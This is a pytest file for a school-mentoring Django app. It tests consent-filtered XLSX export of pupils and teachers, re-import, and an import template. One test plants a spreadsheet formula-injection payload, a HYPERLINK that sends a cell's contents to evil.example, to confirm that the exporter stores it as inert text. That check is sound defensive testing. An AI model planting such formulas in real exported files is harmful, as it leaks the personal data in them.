"""Exporting the bases: only people with valid consent, in the importer's own language."""

from __future__ import annotations

import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from mentoring.people.exporting import EXPORT_HEADERS, export_people_xlsx, import_template_xlsx
from mentoring.people.importing import apply_import, plan_import
from mentoring.people.models import (
    Consent,
    ConsentGiver,
    MenteeProfile,
    MenteeRequest,
    MentorCompetency,
    MentorProfile,
    Person,
    Subject,
)
from mentoring.people.tests.factories import (
    ConsentFactory,
    MenteeProfileFactory,
    MenteeRequestFactory,
    MentorCompetencyFactory,
    MentorProfileFactory,
    PersonFactory,
    TeacherFactory,
    support_area,
)


def sheet_rows(data: bytes) -> list[dict[str, object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    return [dict(zip(header, row, strict=False)) for row in rows[1:]]


def history_rows() -> int:
    return sum(
        model.history.count()  # type: ignore[attr-defined]
        for model in (Person, MenteeProfile, MentorProfile, MenteeRequest, MentorCompetency, Consent)
    )


def build_base(school, number: int = 0) -> dict[str, Person]:
    """A pupil mentee with requests, a teacher mentor with competencies, an adult in both bases."""
    maths = Subject.objects.get(name="Математика")
    pupil = PersonFactory(
        organization=school,
        last_name="Киселёва",
        first_name="Дарья",
        patronymic="Андреевна",
        sex="F",
        representative_name="Киселёва Ольга Ивановна",
        representative_relation="мать",
        representative_phone="+7 (831) 234-56-78",
        external_id=f"NAV-{17 + number}",
        notes="-- не звонить до 15:00\nлюбит шахматы",
    )
    ConsentFactory(person=pupil, representative_name=pupil.representative_name)
    mentee = MenteeProfileFactory(person=pupil, subtype=None)
    MenteeRequestFactory(mentee=mentee, area=support_area("Результаты по предмету"), subject=maths)
    MenteeRequestFactory(mentee=mentee, area=None, text="Хочу научиться выступать")
    MenteeRequestFactory(mentee=mentee, area=support_area("Профориентация"), is_open=False)

    teacher = TeacherFactory(
        organization=school,
        last_name="Егорова",
        first_name="Анна",
        patronymic="Петровна",
        subject=maths,
        position="учитель математики",
        phone="+7 910 123-45-67",
        email="egorova@example.ru",
    )
    ConsentFactory(person=teacher, given_by=ConsentGiver.PERSON, representative_name="")
    mentor = MentorProfileFactory(person=teacher)
    MentorCompetencyFactory(mentor=mentor)
    MentorCompetencyFactory(mentor=mentor, area=support_area("Методика преподавания предмета"), subject=maths)

    both = TeacherFactory(organization=school, last_name="Сафонов", first_name="Илья", patronymic="")
    ConsentFactory(person=both, given_by=ConsentGiver.PERSON, representative_name="")
    MentorProfileFactory(person=both)
    MenteeProfileFactory(person=both)
    return {"pupil": pupil, "teacher": teacher, "both": both}


def test_a_person_without_valid_consent_is_left_out_of_the_export(world):
    with_consent = ConsentFactory(person__organization=world.school).person
    PersonFactory(organization=world.school, last_name="Безсогласия")
    withdrawn = ConsentFactory(person__organization=world.school, person__last_name="Отозвавший")
    withdrawn.withdrawn_on = timezone.localdate()
    withdrawn.save()

    rows = sheet_rows(export_people_xlsx(Person.objects.filter(organization=world.school)))

    assert [row["Фамилия"] for row in rows] == [with_consent.last_name]


def test_the_export_has_the_importers_headers_and_readable_values(world):
    base = build_base(world.school)
    rows = {row["Фамилия"]: row for row in sheet_rows(export_people_xlsx(Person.objects.all()))}

    assert EXPORT_HEADERS[:3] == ["Фамилия", "Имя", "Отчество"]
    pupil = rows["Киселёва"]
    assert pupil["Дата рождения"] == datetime.datetime.combine(base["pupil"].birth_date, datetime.time())
    assert (pupil["Пол"], pupil["Категория"], pupil["Класс"]) == ("ж", "Обучающийся", "7А")
    assert pupil["Роль"] == "наставляемый"
    assert (
        pupil["Запросы"]
        == "Адаптация в новом классе или школе; Результаты по предмету (Математика); Хочу научиться выступать"
        or set(pupil["Запросы"].split("; "))
        == {"Результаты по предмету (Математика)", "Хочу научиться выступать"}
    )
    assert "Профориентация" not in pupil["Запросы"]
    assert pupil["Согласие на обработку ПД"] == datetime.datetime(2025, 9, 1)
    assert pupil["Законный представитель"] == "Киселёва Ольга Ивановна"
    assert pupil["Примечания"] == "'-- не звонить до 15:00\nлюбит шахматы"
    teacher = rows["Егорова"]
    assert teacher["Роль"] == "наставник"
    assert set(teacher["Компетенции"].split("; ")) == {
        "Классное руководство",
        "Методика преподавания предмета (Математика)",
    }
    assert (teacher["Предмет"], teacher["Стаж"], teacher["Телефон"]) == ("Математика", 20, "+7 910 123-45-67")
    assert rows["Сафонов"]["Роль"] == "наставник, наставляемый"


def test_exporting_and_importing_back_into_the_same_school_changes_nothing(world):
    build_base(world.school)
    PersonFactory(organization=world.school, last_name="Безсогласия")
    before = history_rows()

    data = export_people_xlsx(Person.objects.filter(organization=world.school))
    plan = plan_import(organization=world.school, data=data, filename="выгрузка.xlsx")

    assert plan.errors == []
    assert plan.unknown_columns == []
    assert (plan.created, plan.updated, plan.unchanged) == (0, 0, 3)
    apply_import(by=world.curator, organization=world.school, plan=plan)
    assert history_rows() == before


def test_an_export_loaded_into_a_school_of_another_municipality_recreates_the_people(world):
    build_base(world.school)
    data = export_people_xlsx(Person.objects.filter(organization=world.school))

    plan = plan_import(organization=world.foreign_school, data=data, filename="выгрузка.xlsx")
    assert plan.errors == []
    apply_import(by=world.foreign_curator, organization=world.foreign_school, plan=plan)

    assert plan.created == 3
    copy = Person.objects.get(organization=world.foreign_school, last_name="Киселёва")
    assert copy.notes == "-- не звонить до 15:00\nлюбит шахматы"
    assert (copy.representative_phone, copy.external_id) == ("+7 (831) 234-56-78", "NAV-17")
    assert {str(request) for request in copy.mentee_profile.requests.all()} == {
        "Результаты по предмету (Математика)",
        "Хочу научиться выступать",
    }
    assert copy.consents.get().given_by == ConsentGiver.REPRESENTATIVE
    teacher = Person.objects.get(organization=world.foreign_school, last_name="Егорова")
    assert teacher.mentor_profile.competencies.count() == 2


def test_the_export_costs_the_same_number_of_queries_for_3_and_30_people(world, django_assert_num_queries):
    build_base(world.school)
    with django_assert_num_queries(4):
        export_people_xlsx(Person.objects.filter(organization=world.school))
    for number in range(1, 10):
        build_base(world.school, number)
    with django_assert_num_queries(4):
        data = export_people_xlsx(Person.objects.filter(organization=world.school))
    assert len(sheet_rows(data)) == 30


def test_text_that_could_run_as_a_formula_is_exported_as_text(world):
    person = ConsentFactory(person__organization=world.school).person
    person.notes = '=HYPERLINK("http://evil.example/?"&B2, "подробнее")'
    person.save()
    cell = openpyxl.load_workbook(io.BytesIO(export_people_xlsx(Person.objects.all()))).active.cell(
        row=2, column=EXPORT_HEADERS.index("Примечания") + 1
    )
    assert cell.data_type == "s"
    assert cell.value == "'" + person.notes


# --- the template ---------------------------------------------------------------------------------


def test_the_template_has_hints_headers_and_an_example_pupil(world):
    sheet = openpyxl.load_workbook(io.BytesIO(import_template_xlsx())).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0].startswith("Шаблон для загрузки участников")
    assert list(rows[2]) == EXPORT_HEADERS
    assert sheet.freeze_panes == "A4"
    example = dict(zip(EXPORT_HEADERS, rows[3], strict=True))
    assert (example["Категория"], example["Класс"], example["Роль"]) == ("Обучающийся", "7А", "наставляемый")
    hints = dict(zip(EXPORT_HEADERS, rows[1], strict=True))
    assert "ДД.ММ.ГГГГ" in hints["Дата рождения"]


def test_the_template_imported_as_is_is_refused_because_of_the_example_row(world):
    plan = plan_import(organization=world.school, data=import_template_xlsx(), filename="шаблон.xlsx")
    assert [(error.row, error.column) for error in plan.errors] == [(4, "")]
    assert "строка-пример" in plan.errors[0].message


@pytest.mark.parametrize("notes", ["", "Переведена из другой школы"])
def test_the_template_filled_in_by_a_school_imports(world, notes):
    workbook = openpyxl.load_workbook(io.BytesIO(import_template_xlsx()))
    sheet = workbook.active
    sheet.cell(row=4, column=EXPORT_HEADERS.index("Примечания") + 1).value = notes or None
    sheet.cell(row=4, column=EXPORT_HEADERS.index("Фамилия") + 1).value = "Зуева"
    buffer = io.BytesIO()
    workbook.save(buffer)

    plan = plan_import(organization=world.school, data=buffer.getvalue(), filename="шаблон.xlsx")

    assert plan.errors == []
    apply_import(by=world.curator, organization=world.school, plan=plan)
    pupil = Person.objects.get(last_name="Зуева")
    assert pupil.mentee_profile.subtype.name == "Неуспевающий"
    assert pupil.mentee_profile.requests.count() == 2
    assert pupil.consents.get().given_by == ConsentGiver.REPRESENTATIVE
